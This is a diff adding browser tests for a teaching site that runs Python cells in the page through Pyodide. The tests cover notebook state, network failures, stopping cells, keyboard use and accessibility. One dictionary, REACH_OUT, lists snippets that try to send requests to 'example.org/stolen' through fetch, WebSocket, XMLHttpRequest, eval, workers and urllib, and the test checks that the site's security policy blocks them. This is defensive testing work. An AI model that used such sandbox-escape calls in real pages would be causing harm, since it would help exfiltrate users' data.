@@ -1,5 +1,7 @@
 """Every listing runs in the page, can be changed and broken, and nothing hangs."""
 
+import re
+
 import pytest
 from playwright.sync_api import expect
 
@@ -11,6 +13,8 @@ PAGES = (
     "exercises/5-vgg-16/",
     "exercises/6-max-pooling/",
     "about/numbers/",
+    "notebooks/memory/",
+    "notebooks/speed/",
 )
 PATIENCE = 60_000  # ms; Python starts in two or three seconds, on a busy machine later
 
@@ -34,9 +38,10 @@ def run(cell):
 def test_each_cell_gives_its_recorded_output(visit, path):
     page = visit(path)
     opened(page)
-    listings = page.locator("figure.listing[data-kind=run]")
-    assert listings.count()
-    for listing in listings.all():
+    listings = page.locator("figure.listing:has(live-cell)").all()
+    assert len(listings) >= page.locator("figure.listing[data-kind=run]").count()
+    assert listings
+    for listing in listings:
         samp = listing.locator(".output samp")
         recorded = samp.inner_text() if samp.count() else "(nothing)"
         assert run(listing.locator("live-cell")) == "done"
@@ -206,3 +211,250 @@ def test_an_endless_loop_is_stopped_while_the_page_answers(cell):
     cell.get_by_role("button", name="Stop").click()
     expect(status(cell)).to_have_text("Stopped.")
     works(cell)
+
+
+def test_a_cell_of_a_notebook_sees_those_above_as_they_stand(visit):
+    page = visit("notebooks/memory/")
+    first, second = page.locator("live-cell").all()[:2]
+    tried(first, "import numpy as np\nN, W, H, C = 1, 1, 1, 1\na = np.zeros((1,) * 4)")
+    assert tried(second, "print(a.shape, N)") == "done"
+    expect(output(second)).to_have_text("(1, 1, 1, 1) 1\n")
+    tried(first, "1 / 0")
+    assert run(second) == "above"
+    expect(status(second)).to_contain_text("A cell above it raised")
+    expect(output(second)).to_contain_text("ZeroDivisionError")
+
+
+REACH_OUT = {
+    "fetch": """
+from pyodide.http import pyfetch
+import js
+js.fetch("https://example.org/stolen")
+""",
+    "a socket": """
+import js
+js.WebSocket.new("wss://example.org/")
+""",
+    "a synchronous request": """
+from js import XMLHttpRequest
+request = XMLHttpRequest.new()
+request.open("GET", "https://example.org/stolen", False)
+request.send()
+""",
+    "a module": """
+import js
+js.Function("return import('https://example.org/a.js')")()
+""",
+    "code from text": """
+import js
+js.eval("1 + 1")
+""",
+    "a worker of its own": """
+import js
+from pyodide.ffi import to_js
+js.Worker.new("https://example.org/w.js")
+""",
+    "urllib": """
+from urllib.request import urlopen
+urlopen("https://example.org/stolen", timeout=3)
+""",
+}
+
+
+@pytest.mark.parametrize("way", REACH_OUT)
+def test_python_in_a_cell_reaches_no_other_host(browser, address, way):
+    page = browser.new_page()
+    requested, refused = [], []
+    page.context.on("request", lambda request: requested.append(request.url))
+    page.on("console", lambda message: refused.append(message.text))
+    page.goto(address + "exercises/3-affine-parameters/")
+    opened(page)
+    cell = page.locator("live-cell").first
+    state = tried(cell, REACH_OUT[way])
+    page.wait_for_timeout(300)
+    policy = "Content Security Policy"
+    told = output(cell).inner_text() + "".join(refused)
+    assert state == "raised" or policy in told
+    assert not [url for url in requested if "example.org" in url]
+    page.close()
+
+
+def test_a_lost_connection_is_told_and_the_next_run_tries_again(browser, address):
+    page = browser.new_page()
+    page.goto(address + "exercises/3-affine-parameters/")
+    opened(page)
+    cell = page.locator("live-cell").first
+    for lost in ("**/pyodide.mjs", "**/pyodide.asm.wasm", "**/python_stdlib.zip"):
+        page.context.route(lost, lambda route: route.abort())
+        assert run(cell) == "broken"
+        expect(status(cell)).to_contain_text("Python broke off")
+        page.context.unroute(lost)
+    assert run(cell) == "done"
+    page.close()
+
+
+@pytest.mark.parametrize("lost", ["**/*.whl", "**/worker.*.js"])
+def test_a_part_that_is_missing_is_told(browser, address, lost):
+    page = browser.new_page()
+    page.goto(address + "exercises/6-max-pooling/")
+    opened(page)
+    cell = page.locator("live-cell").first
+    page.context.route(lost, lambda route: route.fulfill(status=404))
+    assert run(cell) == "broken"
+    expect(status(cell)).to_contain_text("could not be fetched")
+    page.context.unroute(lost)
+    assert run(cell) == "done"
+    page.close()
+
+
+def test_a_lost_editor_is_told_and_the_next_touch_tries_again(browser, address):
+    page = browser.new_page()
+    page.goto(address + "exercises/3-affine-parameters/")
+    opened(page)
+    cell = page.locator("live-cell").first
+    page.context.route("**/editor.*.js", lambda route: route.abort())
+    cell.get_by_role("button", name="Edit").click()
+    expect(status(cell)).to_have_text("The editor could not be fetched. Try again.")
+    page.context.unroute("**/editor.*.js")
+    cell.get_by_role("button", name="Edit").click()
+    expect(listing(cell).get_by_role("textbox")).to_be_visible()
+    page.close()
+
+
+def test_python_is_kept_while_pages_change(visit):
+    page = visit("exercises/3-affine-parameters/")
+    opened(page)
+    run(page.locator("live-cell").first)
+    asked = []
+    page.on("request", lambda request: asked.append(request.url))
+    page.get_by_role("link", name="2", exact=False).first.click()
+    page.wait_for_url("**/exercises/*/")
+    opened(page)
+    assert run(page.locator("live-cell").first) == "done"
+    assert not [url for url in asked if "pyodide" in url]
+
+
+def test_leaving_a_page_ends_what_runs_on_it(visit):
+    page = visit("exercises/3-affine-parameters/")
+    opened(page)
+    cell = page.locator("live-cell").first
+    type_in(cell, "while True:\n    pass")
+    cell.get_by_role("button", name="Run").click()
+    expect(status(cell)).to_have_text("Running …", timeout=PATIENCE)
+    page.get_by_role("link", name="Max-pooling").first.click()
+    page.wait_for_url("**/exercises/6-max-pooling/")
+    opened(page)
+    assert run(page.locator("live-cell").first) == "done"
+
+
+def test_a_second_cell_waits_for_the_first(visit):
+    page = visit("exercises/6-max-pooling/")
+    opened(page)
+    first, second = page.locator("live-cell").all()[:2]
+    type_in(first, "import time\ntime.sleep(3)\nprint('slept')")
+    first.get_by_role("button", name="Run").click()
+    second.get_by_role("button", name="Run").click()
+    expect(status(second)).to_contain_text("Waiting")
+    assert ended(second) == "done"
+    assert ended(first) == "done"
+
+
+def test_a_cell_that_waits_can_be_stopped(visit):
+    page = visit("exercises/6-max-pooling/")
+    opened(page)
+    first, second = page.locator("live-cell").all()[:2]
+    type_in(first, "while True:\n    pass")
+    first.get_by_role("button", name="Run").click()
+    second.get_by_role("button", name="Run").click()
+    second.get_by_role("button", name="Stop").click()
+    assert ended(second) == "stopped"
+    first.get_by_role("button", name="Stop").click()
+    assert ended(first) == "stopped"
+    assert run(second) == "done"
+
+
+def test_the_keyboard_alone_edits_runs_and_leaves(visit):
+    page = visit("exercises/3-affine-parameters/")
+    opened(page)
+    cell = page.locator("live-cell").first
+    cell.get_by_role("button", name="Edit").focus()
+    page.keyboard.press("Enter")
+    editor = listing(cell).get_by_role("textbox")
+    expect(editor).to_be_focused()
+    page.keyboard.press("ControlOrMeta+a")
+    page.keyboard.type("for i in range(2):\nprint(i)")  # the editor indents
+    page.keyboard.press("ControlOrMeta+Enter")
+    assert ended(cell) == "done"
+    expect(output(cell)).to_have_text("0\n1\n")
+    expect(editor).to_be_focused()
+    page.keyboard.press("Escape")
+    expect(cell.get_by_role("button", name="Run")).to_be_focused()
+    page.keyboard.press("Enter")
+    ended(cell)
+    expect(cell.get_by_role("button", name="Run")).to_be_focused()
+    page.keyboard.press("Tab")
+    expect(cell.get_by_role("button", name="Reset")).to_be_focused()
+    page.keyboard.press("Enter")
+    expect(cell.get_by_role("button", name="Run")).to_be_focused()
+
+
+def test_the_page_says_what_happens_while_python_is_fetched(browser, address):
+    page = browser.new_page()
+    page.goto(address + "exercises/3-affine-parameters/")
+    opened(page)
+    cell = page.locator("live-cell").first
+    slow = page.context.new_cdp_session(page)
+    slow.send("Network.enable")
+    slow.send(
+        "Network.emulateNetworkConditions",
+        {
+            "offline": False,
+            "latency": 20,
+            "downloadThroughput": 2e6,
+            "uploadThroughput": 2e6,
+        },
+    )
+    cell.get_by_role("button", name="Run").click()
+    expect(cell.get_by_role("progressbar")).to_be_visible(timeout=PATIENCE)
+    expect(cell.locator("label")).to_contain_text(re.compile(r"\d\.\d of 1\d\.\d MB"))
+    expect(status(cell)).to_have_text("Python is being fetched …")
+    assert ended(cell) == "done"
+    expect(cell.get_by_role("progressbar")).to_be_hidden()
+    page.close()
+
+
+VIEWS = [
+    {"width": width, "scheme": scheme}
+    for width in (1200, 320)
+    for scheme in ("light", "dark")
+]
+
+
+@pytest.mark.parametrize("view", VIEWS, ids=lambda v: f"{v['width']}-{v['scheme']}")
+def test_cells_in_use_are_accessible_and_fit(visit, axe, view):
+    size = {"width": view["width"], "height": 800}
+    page = visit("exercises/6-max-pooling/", viewport=size, color_scheme=view["scheme"])
+    opened(page)
+    first, second = page.locator("live-cell").all()[:2]
+    assert tried(first, "print('x' * 300)\n1 / 0") == "raised"
+    type_in(second, "while True:\n    pass  # " + "long " * 40)
+    second.get_by_role("button", name="Run").click()
+    expect(status(second)).to_have_text("Running …", timeout=PATIENCE)
+    assert axe(page) == []
+    assert page.evaluate("document.documentElement.scrollWidth") <= view["width"]
+    second.get_by_role("button", name="Stop").click()
+
+
+def test_without_javascript_there_is_nothing_to_press(visit):
+    page = visit("exercises/6-max-pooling/", java_script_enabled=False)
+    for cell in page.locator("live-cell").all():
+        expect(cell).to_be_hidden()
+
+
+def test_on_paper_stands_the_program_as_it_was_edited(cell):
+    type_in(cell, "print('edited')")
+    cell.page.emulate_media(media="print")
+    expect(listing(cell).locator("pre code").first).to_have_text("print('edited')")
+    expect(listing(cell).locator("pre code").first).to_be_visible()
+    expect(cell).to_be_hidden()
+    expect(listing(cell).get_by_role("textbox")).to_be_hidden()
